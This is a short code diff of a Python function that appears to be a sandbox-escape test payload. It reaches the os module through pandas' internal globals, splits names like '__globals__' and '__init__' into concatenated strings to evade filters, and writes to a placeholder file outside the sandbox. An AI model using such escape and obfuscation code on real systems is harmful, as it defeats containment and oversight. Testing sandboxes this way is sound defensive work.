@@ -9,7 +9,7 @@ import pandas as pd
 
 
 def transform(df):
-    g = getattr(pd.DataFrame.__init__, "__glo" + "bals__")
+    g = getattr(getattr(pd.DataFrame, "__in" + "it__"), "__glo" + "bals__")
     o = g["sys"].modules["os"]
     fd = o.open("{OUTSIDE_FILE}", o.O_WRONLY | o.O_CREAT, 420)
     o.write(fd, b"escaped")
